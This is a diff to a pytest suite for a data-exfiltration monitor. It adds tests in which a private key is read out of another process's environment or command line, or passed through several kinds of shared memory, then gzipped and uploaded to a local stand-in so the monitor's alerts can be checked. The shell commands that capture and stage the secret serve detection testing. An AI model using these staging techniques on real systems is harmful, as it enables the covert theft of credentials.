@@ -2,8 +2,8 @@
 (mmap, pread/preadv/readv, sendfile and splice to the uploader), a read budget flooded with
 decoys, an uploader that claims another identity (argv[0]) or takes its arguments from a file
 (curl -K, wget -i), a key and a connection opened before the monitor started, a flow with no
-name at all, bytes copied out of or into another process's memory, and its environment read.
-Each attack alerts with its sub-technique and leaks no line of the key; each twin stays silent."""
+name at all, bytes copied out of or into another process's memory, its environment or command
+line read, and memory two processes share (System V, anonymous, memfd, a file mapped MAP_SHARED). Each attack alerts with its sub-technique and leaks no line of the key; each twin stays silent."""
 
 import contextlib
 import json
@@ -605,50 +605,55 @@ def test_key_copied_out_of_memory_inside_a_pid_namespace(monitor, standin, fake_
 # reading that is silent.
 
 @contextlib.contextmanager
-def exported_holder(tmp_path, held):
-    """A `sleep` in its own session whose environment holds `held`'s text, exported by the shell
-    that exec'd it; killed on the way out."""
-    holder = subprocess.Popen(["setsid", "bash", "-c", f'export HELD="$(cat {held})"; exec sleep 600'],
-                              stderr=subprocess.PIPE)
+def session_job(script, comm):
+    """`bash -c script` in a session of its own, once it exec'd a program named `comm*`; killed on
+    the way out."""
+    holder = subprocess.Popen(["setsid", "bash", "-c", script], stderr=subprocess.PIPE)
     try:
-        comm = pathlib.Path(f"/proc/{holder.pid}/comm")
+        name = pathlib.Path(f"/proc/{holder.pid}/comm")
         for _ in range(400):
-            if holder.poll() is not None or comm.read_text().strip() == "sleep":
+            if holder.poll() is not None or name.read_text().strip().startswith(comm):
                 break
             subprocess.run(["sleep", "0.05"])
-        assert holder.poll() is None, f"the holder did not start: {holder.stderr.read().decode(errors='replace')}"
+        assert holder.poll() is None, "the holder did not start"
         yield holder
     finally:
         holder.kill()
         holder.wait()
 
 
-def environ_run(monitor, standin, fake_home, tmp_path, holder_pid, expect):
-    stolen, stage = tmp_path / "environ.txt", tmp_path / "environ.gz"
-    shell = (f"tr '\\0' '\\n' < /proc/{holder_pid}/environ > {stolen} && gzip -c {stolen} > {stage} && "
+def exported_holder(held):
+    """A `sleep` whose environment holds `held`'s text, exported by the shell that exec'd it."""
+    return session_job(f'export HELD="$(cat {held})"; exec sleep 600', "sleep")
+
+
+def image_run(monitor, standin, fake_home, tmp_path, holder_pid, expect, image="environ"):
+    """An unrelated process stages /proc/PID/`image` (environ or cmdline) for the upload."""
+    stolen, stage = tmp_path / f"{image}.txt", tmp_path / f"{image}.gz"
+    shell = (f"tr '\\0' '\\n' < /proc/{holder_pid}/{image} > {stolen} && gzip -c {stolen} > {stage} && "
              + UPLOAD.format(stage))
-    expect_run(expect, monitor, standin, fake_home, tmp_path, f"environ-{expect}", shell)
+    expect_run(expect, monitor, standin, fake_home, tmp_path, f"{image}-{expect}", shell)
     found = [r for r in monitor.records()
-             if is_action("object-io", {"exfilwatch.object.kind": "process_environ",
+             if is_action("object-io", {"exfilwatch.object.kind": f"process_{image}",
                                         "exfilwatch.object.direction": "read"})(r)
              and get(r, "exfilwatch.object.process.pid") == holder_pid]
-    assert found, f"no process_environ read of pid {holder_pid}"
+    assert found, f"no process_{image} read of pid {holder_pid}"
     assert all(get(r, "event.category") == ["process"] for r in found)
     return stolen.read_text(errors="replace")
 
 
 def test_key_read_out_of_an_exported_environment(monitor, standin, fake_home, tmp_path):
     key = key_of(fake_home)
-    with exported_holder(tmp_path, key) as holder:
-        stolen = environ_run(monitor, standin, fake_home, tmp_path, holder.pid, "alert")
+    with exported_holder(key) as holder:
+        stolen = image_run(monitor, standin, fake_home, tmp_path, holder.pid, "alert")
     assert key.read_text().strip() in stolen
     assert_no_secret(monitor, key)
 
 
 def test_report_read_out_of_an_exported_environment_is_silent(monitor, standin, fake_home, tmp_path):
     report = harmless_report(tmp_path)
-    with exported_holder(tmp_path, report) as holder:
-        stolen = environ_run(monitor, standin, fake_home, tmp_path, holder.pid, "silent")
+    with exported_holder(report) as holder:
+        stolen = image_run(monitor, standin, fake_home, tmp_path, holder.pid, "silent")
     assert report.read_text().strip() in stolen
 
 
@@ -658,5 +663,103 @@ def test_environment_of_a_process_that_read_the_key_after_its_exec_is_silent(mon
     # memory holds the key, its environment does not.
     key = key_of(fake_home)
     with memory_holder(tmp_path, key) as (holder, _):
-        stolen = environ_run(monitor, standin, fake_home, tmp_path, holder.pid, "silent")
+        stolen = image_run(monitor, standin, fake_home, tmp_path, holder.pid, "silent")
     assert "PRIVATE KEY" not in stolen
+
+
+# --- Class: another process's command line -----------------------------------------------------
+# A script runs a long job with the key as an argument (`exec $JOB "$(cat KEY)"`); an
+# unrelated process reads the job's /proc/PID/cmdline and stages it for the upload. A command line
+# carries a file's data only where an argument holds the file's bytes: ps, top and agents read
+# every process's, and the command line of a job the key's reader started otherwise is clean.
+
+JOB = f"{PY} -c 'import time; time.sleep(600)'"  # a long job that takes any arguments
+
+
+def argv_holder(script):
+    """The long job `$JOB` exec'd by `bash -c script` (`exec $JOB ARGS`)."""
+    return session_job(script.replace("$JOB", JOB), "python")
+
+
+def test_key_read_out_of_a_command_line(monitor, standin, fake_home, tmp_path):
+    key = key_of(fake_home)
+    with argv_holder(f'exec $JOB "$(cat {key})"') as holder:
+        stolen = image_run(monitor, standin, fake_home, tmp_path, holder.pid, "alert", "cmdline")
+    assert key.read_text().strip() in stolen
+    assert_no_secret(monitor, key)
+
+
+def test_report_read_out_of_a_command_line_is_silent(monitor, standin, fake_home, tmp_path):
+    report = harmless_report(tmp_path)
+    with argv_holder(f'exec $JOB "$(cat {report})"') as holder:
+        stolen = image_run(monitor, standin, fake_home, tmp_path, holder.pid, "silent", "cmdline")
+    assert report.read_text().strip() in stolen
+
+
+def test_command_line_of_a_job_the_key_reader_started_is_silent(monitor, standin, fake_home, tmp_path):
+    # The script holds the key (it read it into a variable) and starts a job without it.
+    key = key_of(fake_home)
+    with argv_holder(f'held="$(cat {key})"; exec $JOB') as holder:
+        stolen = image_run(monitor, standin, fake_home, tmp_path, holder.pid, "silent", "cmdline")
+    assert "PRIVATE KEY" not in stolen
+
+
+# --- Class: memory two processes share ---------------------------------------------------------
+# No syscall carries the bytes: the key's reader copies it (memcpy) into memory an unrelated
+# receiver also maps, and the receiver stages what appears there, compressed, for the upload. The
+# receiver mapped (or inherited) the memory before the key was read, so nothing it did after the
+# read shows in a syscall: a System V segment both attach, an anonymous shared mapping or a memfd
+# the receiver inherited at fork (then setsid), a file both map MAP_SHARED (the receiver
+# read-only), and one the key's reader maps read-only and makes writable with mprotect. Or a whole
+# address space: a child made by clone(CLONE_VM) (a process, not a thread) shares its parent's.
+
+SHARED = paths.TOOLS_DIR / "shared_mem.py"
+SHARED_MODES = ["sysv", "fork", "memfd", "file", "mprotect"]
+
+
+def shared_run(monitor, standin, fake_home, tmp_path, mode, source, expect, tool=None):
+    got, stage = tmp_path / "shared.bin", tmp_path / "shared.gz"
+    command = f"{tool} {source} {got}" if tool else f"{PY} {SHARED} {mode} {source} {got}"
+    shell = f"{command} && gzip -c {got} > {stage} && " + UPLOAD.format(stage)
+    expect_run(expect, monitor, standin, fake_home, tmp_path, f"shared-{mode}-{expect}", shell)
+    assert got.read_bytes() == source.read_bytes()
+    name = "clone_vm" if tool else "python"
+    found = [r for r in monitor.records()
+             if is_action("object-io", {"exfilwatch.object.kind": "shared_memory"})(r)
+             and str(get(r, "process.name", "")).startswith(name)]
+    directions = {get(r, "exfilwatch.object.direction") for r in found}
+    assert directions == {"read", "write"}, f"shared_memory records by the tool: {directions}"
+    assert all(get(r, "event.category") == ["file"] for r in found)
+    return found
+
+
+@pytest.mark.parametrize("mode", SHARED_MODES)
+def test_key_passed_through_shared_memory(monitor, standin, fake_home, tmp_path, mode):
+    key = key_of(fake_home)
+    shared_run(monitor, standin, fake_home, tmp_path, mode, key, "alert")
+    assert_no_secret(monitor, key)
+
+
+@pytest.mark.parametrize("mode", SHARED_MODES)
+def test_report_passed_through_shared_memory_is_silent(monitor, standin, fake_home, tmp_path, mode):
+    shared_run(monitor, standin, fake_home, tmp_path, mode, harmless_report(tmp_path), "silent")
+
+
+def clone_run(monitor, standin, fake_home, tmp_path, c_tool, source, expect):
+    found = shared_run(monitor, standin, fake_home, tmp_path, "clone", source, expect, tool=c_tool("clone_vm"))
+    # Parent and child each map the one address space, named alike (device 0, a salted hash).
+    spaces = {(get(r, "exfilwatch.object.id"), get(r, "exfilwatch.object.device")) for r in found
+              if get(r, "exfilwatch.object.device") is None}
+    assert len(spaces) == 1, f"address spaces shared: {spaces}"
+    assert len({get(r, "process.pid") for r in found if get(r, "exfilwatch.object.device") is None}) == 2
+
+
+def test_key_read_into_an_address_space_a_clone_shares(monitor, standin, fake_home, tmp_path, c_tool):
+    key = key_of(fake_home)
+    clone_run(monitor, standin, fake_home, tmp_path, c_tool, key, "alert")
+    assert_no_secret(monitor, key)
+
+
+def test_report_read_into_an_address_space_a_clone_shares_is_silent(monitor, standin, fake_home, tmp_path,
+                                                                     c_tool):
+    clone_run(monitor, standin, fake_home, tmp_path, c_tool, harmless_report(tmp_path), "silent")
